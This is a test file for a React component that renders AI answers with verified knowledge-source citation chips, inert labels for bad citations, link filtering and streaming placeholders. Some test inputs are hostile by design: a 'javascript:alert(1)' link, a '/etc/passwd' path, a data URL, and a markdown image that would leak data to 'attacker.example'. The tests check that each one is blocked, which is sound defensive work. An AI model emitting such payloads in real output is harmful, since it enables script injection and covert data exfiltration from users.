// @vitest-environment jsdom
import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";

import { splitPendingCitation } from "../../src/components/KnowledgeMarkdown.js";
import { KnowledgeMarkdown, createSourceResolver, type SourceResolver } from "../../src/index.js";
import { ai, cite, human, nativeRecord, nativeToolMessage, sharedRecord, toolMessage } from "./fixtures.js";

afterEach(cleanup);

const guide = sharedRecord({
  provider: "lightrag",
  title: "Deer field guide",
  excerpt: "Deer eat acorns in autumn.",
  dataset_name: "Wildlife",
  url: "https://docs.example/deer",
  page: 12,
});
const notes = sharedRecord({ title: "Ranger notes", excerpt: "Fawns are born in spring." });

function renderAnswer(
  markdown: string,
  before: ReadonlyArray<Record<string, unknown>>,
  extra: { resolver?: SourceResolver; streaming?: boolean } = {},
) {
  const messages = [human("question"), ...before, ai(markdown)];
  const resolver = extra.resolver ?? createSourceResolver();
  const view = render(
    <KnowledgeMarkdown
      markdown={markdown}
      messages={messages}
      messageIndex={messages.length - 1}
      resolver={resolver}
      streaming={extra.streaming}
    />,
  );
  return { ...view, messages, resolver };
}

describe("resolved citations", () => {
  it("renders a chip with the verified title, not the model's label", () => {
    renderAnswer(`Deer eat acorns ${cite(guide, "A totally different title")}.`, [toolMessage([guide])]);
    const chip = screen.getByRole("button", { name: "Source 1: Deer field guide" });
    expect(chip.getAttribute("type")).toBe("button");
    expect(document.body.textContent).not.toContain("A totally different title");
  });

  it("shows provider, title, excerpt and only the supplied locators in the described preview", () => {
    renderAnswer(`Fact ${cite(guide)} and ${cite(notes)}.`, [toolMessage([guide, notes])]);
    const [first, second] = screen.getAllByRole("button");
    fireEvent.mouseOver(first!); // previews mount only while open
    const preview = document.getElementById(first!.getAttribute("aria-describedby")!)!;
    expect(preview.textContent).toContain("lightrag");
    expect(preview.textContent).toContain("Deer field guide");
    expect(preview.textContent).toContain("Deer eat acorns in autumn.");
    expect(preview.textContent).toContain("Dataset: Wildlife");
    expect(preview.textContent).toContain("Page 12");
    const link = within(preview).getByRole("link", { hidden: true });
    expect(link.getAttribute("href")).toBe("https://docs.example/deer");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");

    fireEvent.mouseOut(first!);
    fireEvent.mouseOver(second!);
    const bare = document.getElementById(second!.getAttribute("aria-describedby")!)!;
    expect(bare.textContent).toContain("Fawns are born in spring.");
    expect(bare.textContent).not.toContain("Dataset");
    expect(bare.textContent).not.toContain("Page");
    expect(bare.querySelector("a")).toBeNull();
  });

  it("accepts the user-content- destination and numbers sources in first-citation order", () => {
    const markdown =
      `A [citation:x](#user-content-knowledge-source-${notes.id}) B ${cite(guide)} C ${cite(notes)}`;
    renderAnswer(markdown, [toolMessage([guide, notes])]);
    const names = screen.getAllByRole("button").map((button) => button.getAttribute("aria-label"));
    expect(names).toEqual([
      "Source 1: Ranger notes",
      "Source 2: Deer field guide",
      "Source 1: Ranger notes",
    ]);
  });

  it("resolves native RAGFlow citations from knowledge_search and task messages only", () => {
    const hex = "0123456789abcdef0123456789abcdef";
    const record = nativeRecord({ id: `${hex}-1`, text: "Employees accrue 25 days.", pages: [14, 15] });
    const other = nativeRecord({ id: `${hex}-2`, text: "Forged via another tool." });
    const markdown = `Leave [citation:1](#knowledge-${hex}-1) and [citation:2](#user-content-knowledge-${hex}-2)`;
    renderAnswer(markdown, [nativeToolMessage([record], "task"), nativeToolMessage([other], "web_search")]);
    const chip = screen.getByRole("button", { name: /Employee_Handbook_2026\.pdf/ });
    const preview = document.getElementById(chip.getAttribute("aria-describedby")!)!;
    expect(preview.textContent).toContain("ragflow");
    expect(preview.textContent).toContain("Dataset: HR Policies");
    expect(preview.textContent).toContain("Pages 14, 15");
    expect(preview.textContent).not.toContain("5b1e7c2a"); // provider locators are never shown
    expect(screen.getAllByRole("button")).toHaveLength(1);
    expect(document.querySelector('[data-dk-reason="evidence_not_loaded"]')).not.toBeNull();
  });
});

describe("inert labels", () => {
  it("marks a well-formed id without evidence as 'evidence not loaded'", () => {
    renderAnswer(`Claim ${cite(notes, "Notes")}.`, [toolMessage([guide])]);
    expect(screen.queryByRole("button")).toBeNull();
    const label = document.querySelector('[data-dk-reason="evidence_not_loaded"]')!;
    expect(label.tagName).toBe("SPAN");
    expect(label.textContent).toBe("Notes (evidence not loaded)");
    expect(label.getAttribute("title")).toMatch(/not in the loaded conversation/);
    expect(label.querySelector("a, button, [tabindex]")).toBeNull();
  });

  it.each([
    ["bad id", "[citation:X](#knowledge-source-0123456789ABCDEF0123456789ABCDEF)", "bad_source_id"],
    ["short id", "[citation:X](#knowledge-source-0123)", "bad_source_id"],
    ["other anchor", "[citation:X](#knowledge-base-setup)", "unsupported_destination"],
    ["relative path", "[citation:X](/etc/passwd)", "unsupported_destination"],
    ["javascript", "[citation:X](javascript:alert(1))", "unsupported_destination"],
    ["data", "[citation:X](data:text/html,hi)", "unsupported_destination"],
  ])("renders a malformed citation (%s) as an inert label with its reason", (_name, markdown, reason) => {
    renderAnswer(markdown, [toolMessage([guide])]);
    const label = document.querySelector(`[data-dk-reason="${reason}"]`);
    expect(label).not.toBeNull();
    expect(document.querySelector("a, button")).toBeNull();
  });
});

describe("other links", () => {
  it("keeps web citations as external links", () => {
    renderAnswer("See [citation:Deer Org](https://deer.example/facts).", []);
    const link = screen.getByRole("link");
    expect(link.getAttribute("href")).toBe("https://deer.example/facts");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.textContent).toContain("Deer Org");
    expect(link.textContent).toContain("deer.example");
  });

  it("invents nothing for old numbered knowledge text", () => {
    renderAnswer("Deer eat acorns [1]. See [2] and [3](#knowledge-1).", [toolMessage([guide])]);
    expect(screen.queryByRole("button")).toBeNull();
    expect(document.querySelector(".dk-citation, .dk-inert")).toBeNull();
    expect(document.body.textContent).toContain("Deer eat acorns [1]. See [2] and");
  });

  it("renders ordinary links only with allowed addresses", () => {
    renderAnswer("[docs](https://example.com/a) [mail](mailto:a@example.com) [top](#intro) [app](/settings)", []);
    const hrefs = screen.getAllByRole("link").map((link) => link.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.com/a", "mailto:a@example.com", "#intro"]);
    expect(screen.getByText("app").closest("a")).toBeNull();
  });

  it("does not treat citations in code as citations", () => {
    renderAnswer(`\`${cite(guide)}\`\n\n\`\`\`\n${cite(guide)}\n\`\`\`\n`, [toolMessage([guide])]);
    expect(screen.queryByRole("button")).toBeNull();
    expect(document.querySelectorAll("code")).toHaveLength(2);
  });

  it("renders images as a text placeholder, never an <img>", () => {
    renderAnswer("![secret chart](https://attacker.example/x.png?q=leak) and ![](https://a.example/y.png)", []);
    expect(document.querySelector("img")).toBeNull();
    expect(document.body.textContent).toContain("[image: secret chart]");
    expect(document.body.innerHTML).not.toContain("attacker.example");
  });
});

describe("streaming", () => {
  it("holds back a citation still being written and shows a pending marker", () => {
    expect(splitPendingCitation("Fact [citation:Guide](#knowledge-source-01ab")).toEqual({
      body: "Fact ",
      pending: true,
    });
    expect(splitPendingCitation("Fact [citation:Gui")).toEqual({ body: "Fact ", pending: true });
    expect(splitPendingCitation("Done [citation:G](#knowledge-source-1).").pending).toBe(false);
    expect(splitPendingCitation("```\n[citation:Gui").pending).toBe(false);
    renderAnswer(`Fact [citation:Guide](#knowledge-source-${guide.id.slice(0, 10)}`, [toolMessage([guide])], {
      streaming: true,
    });
    expect(document.body.textContent).not.toContain("knowledge-source");
    expect(document.querySelector(".dk-pending")).not.toBeNull();
  });

  it("turns an unresolved label into a chip when evidence arrives, and never flips back", () => {
    const resolver = createSourceResolver();
    const tool = toolMessage([guide]);
    const markdown = `Fact ${cite(guide)}`;
    const answer = ai(markdown);
    const q = human("q");
    const props = { markdown, resolver, streaming: true } as const;

    const { rerender } = render(<KnowledgeMarkdown {...props} messages={[q, answer]} messageIndex={1} />);
    expect(screen.queryByRole("button")).toBeNull();
    expect(screen.getByText("evidence not loaded")).toBeTruthy();

    rerender(<KnowledgeMarkdown {...props} messages={[q, tool, answer]} messageIndex={2} />);
    expect(screen.getByRole("button", { name: /Deer field guide/ })).toBeTruthy();

    // A later frame without the tool message (e.g. a trimmed window) keeps the chip.
    rerender(<KnowledgeMarkdown {...props} messages={[q, answer]} messageIndex={1} />);
    expect(screen.getByRole("button", { name: /Deer field guide/ })).toBeTruthy();

    // A different message (new key) starts afresh.
    const other = ai(markdown);
    rerender(<KnowledgeMarkdown {...props} messages={[q, other]} messageIndex={1} />);
    expect(screen.queryByRole("button")).toBeNull();
  });
});
